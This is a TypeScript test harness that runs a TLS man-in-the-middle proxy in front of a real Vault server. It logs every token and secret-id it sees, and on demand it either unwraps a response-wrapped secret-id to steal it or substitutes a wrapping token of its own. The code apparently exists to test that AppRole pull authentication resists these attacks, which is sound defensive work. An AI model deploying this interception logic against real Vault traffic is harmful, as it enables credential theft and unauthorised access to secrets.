// A TLS man-in-the-middle in front of a real Vault, for tests of AppRole pull authentication. It
// holds a certificate from the CA the charm trusts (as an attacker with a mis-issued certificate or a
// compromised load balancer would), forwards every request from the client's own source address (so
// CIDR-bound roles still see the real caller), and records every token and secret-id it sees. When
// armed it attacks the next response-wrapped secret-id: `unwrap` uses the wrapping token itself
// before passing the response on unchanged; `substitute` swaps in a wrapping token it made for
// another path. Nothing here fakes Vault: every answer the client gets comes from the real server.
import { STATUS_CODES, type IncomingHttpHeaders } from "node:http";
import { request } from "node:https";
import { createServer as createTlsServer, type Server, type TLSSocket } from "node:tls";

export type Attack = "unwrap" | "substitute";

export interface Interception {
  attack: Attack;
  /** The secret-id the attacker unwrapped (unwrap attack). */
  secretId?: string;
}

export interface InterceptingProxy {
  url: string;
  /** Attack the next `count` wrapped secret-id responses. */
  arm(attack: Attack, count?: number): void;
  interceptions: Interception[];
  /** Tokens and secret-ids that crossed the proxy, by client address. */
  seen: Map<string, Set<string>>;
  close(): Promise<void>;
}

interface Upstream {
  url: string;
  caPem: string;
  /** A token the attacker holds, to make a wrapping token of its own (substitute attack). */
  attackerToken: string;
}

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  body: Buffer;
}

function forward(up: Upstream, method: string, path: string, headers: IncomingHttpHeaders, body: Buffer, localAddress?: string): Promise<Answer> {
  const target = new URL(up.url);
  // The body is forwarded whole, so hop-by-hop framing headers from the client do not apply.
  const { "transfer-encoding": _te, connection: _c, "content-length": _cl, ...passed } = headers;
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: target.hostname,
        port: target.port,
        method,
        path,
        ca: up.caPem,
        headers: { ...passed, host: target.host, "content-length": String(body.length) },
        ...(localAddress ? { localAddress } : {}),
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => resolve({ status: res.statusCode ?? 502, headers: res.headers, body: Buffer.concat(chunks) }));
        res.on("error", reject);
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

const json = (b: Buffer): Record<string, unknown> | null => {
  try {
    const v = JSON.parse(b.toString()) as unknown;
    return v && typeof v === "object" ? (v as Record<string, unknown>) : null;
  } catch {
    return null;
  }
};

/** Strings worth scanning for: tokens in headers and answers, secret-ids in requests and answers. */
function secretsIn(headers: IncomingHttpHeaders, request: Buffer, answer: Buffer): string[] {
  const found: string[] = [];
  const token = headers["x-vault-token"];
  if (typeof token === "string") found.push(token);
  const req = json(request);
  if (typeof req?.secret_id === "string") found.push(req.secret_id);
  if (typeof req?.token === "string") found.push(req.token);
  const res = json(answer);
  const auth = res?.auth as Record<string, unknown> | null | undefined;
  const wrap = res?.wrap_info as Record<string, unknown> | null | undefined;
  const data = res?.data as Record<string, unknown> | null | undefined;
  for (const v of [auth?.client_token, wrap?.token, data?.secret_id]) if (typeof v === "string") found.push(v);
  return found.filter((s) => s.length >= 8);
}

export async function startInterceptingProxy(tls: { certPem: string; keyPem: string }, upstream: Upstream): Promise<InterceptingProxy> {
  const armed: Attack[] = [];
  const interceptions: Interception[] = [];
  const seen = new Map<string, Set<string>>();
  const sockets = new Set<TLSSocket>();

  async function attack(kind: Attack, answer: Answer, wrappingToken: string): Promise<Answer> {
    if (kind === "unwrap") {
      const unwrapped = await forward(upstream, "POST", "/v1/sys/wrapping/unwrap", { "x-vault-token": wrappingToken, "content-type": "application/json" }, Buffer.from("{}"));
      const secretId = (json(unwrapped.body)?.data as Record<string, unknown> | undefined)?.secret_id;
      interceptions.push({ attack: kind, ...(typeof secretId === "string" ? { secretId } : {}) });
      return answer;
    }
    // A wrapping token the attacker made (creation path sys/wrapping/wrap), passed off as the real one.
    const wrapped = await forward(
      upstream,
      "POST",
      "/v1/sys/wrapping/wrap",
      { "x-vault-token": upstream.attackerToken, "x-vault-wrap-ttl": "60s", "content-type": "application/json" },
      Buffer.from(JSON.stringify({ secret_id: "00000000-0000-0000-0000-00000000dead", secret_id_accessor: "none" })),
    );
    const fake = (json(wrapped.body)?.wrap_info as Record<string, unknown> | undefined)?.token;
    if (typeof fake !== "string") throw new Error(`the proxy could not make its own wrapping token: ${wrapped.status}`);
    const body = json(answer.body)!;
    body.wrap_info = { ...(body.wrap_info as Record<string, unknown>), token: fake };
    interceptions.push({ attack: kind });
    return { ...answer, body: Buffer.from(JSON.stringify(body)) };
  }

  /** One request: forwarded from the client's own address, attacked when armed, recorded. */
  async function handle(method: string, url: string, headers: IncomingHttpHeaders, body: Buffer, client: string): Promise<Answer> {
    let answer = await forward(upstream, method, url, headers, body, client || undefined);
    const wrappingToken = (json(answer.body)?.wrap_info as Record<string, unknown> | null | undefined)?.token;
    const isPull = /\/v1\/auth\/.+\/role\/[^/]+\/secret-id$/.test(url) && headers["x-vault-wrap-ttl"] !== undefined;
    if (isPull && typeof wrappingToken === "string" && armed.length) answer = await attack(armed.shift()!, answer, wrappingToken);
    const bucket = seen.get(client) ?? new Set<string>();
    for (const secret of secretsIn(headers, body, answer.body)) bucket.add(secret);
    seen.set(client, bucket);
    return answer;
  }

  // HTTP/1.1 parsed by hand over TLS: Node's HTTP server refuses Vault's LIST method.
  const server: Server = createTlsServer({ cert: tls.certPem, key: tls.keyPem }, (socket) => {
    const client = socket.remoteAddress?.replace(/^::ffff:/, "") ?? "";
    let buffered = Buffer.alloc(0);
    let busy = Promise.resolve();
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    socket.on("error", () => undefined);
    socket.on("data", (chunk: Buffer) => {
      buffered = Buffer.concat([buffered, chunk]);
      for (;;) {
        const end = buffered.indexOf("\r\n\r\n");
        if (end < 0) return;
        const [requestLine = "", ...lines] = buffered.subarray(0, end).toString("latin1").split("\r\n");
        const headers: IncomingHttpHeaders = {};
        for (const line of lines) {
          const colon = line.indexOf(":");
          if (colon > 0) headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
        }
        const length = Number(headers["content-length"] ?? 0);
        if (buffered.length < end + 4 + length) return;
        const body = buffered.subarray(end + 4, end + 4 + length);
        buffered = buffered.subarray(end + 4 + length);
        const [method = "GET", url = "/"] = requestLine.split(" ");
        busy = busy.then(async () => {
          const answer = await handle(method, url, headers, Buffer.from(body), client).catch((error: Error) => ({
            status: 502,
            headers: {},
            body: Buffer.from(JSON.stringify({ errors: [`proxy: ${error.message}`] })),
          }));
          const head = [`HTTP/1.1 ${answer.status} ${STATUS_CODES[answer.status] ?? ""}`, "content-type: application/json", `content-length: ${answer.body.length}`, "", ""];
          socket.write(Buffer.concat([Buffer.from(head.join("\r\n"), "latin1"), answer.body]));
        });
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address ? address.port : 0;
  return {
    url: `https://127.0.0.1:${port}`,
    arm: (kind, count = 1) => {
      for (let i = 0; i < count; i++) armed.push(kind);
    },
    interceptions,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}
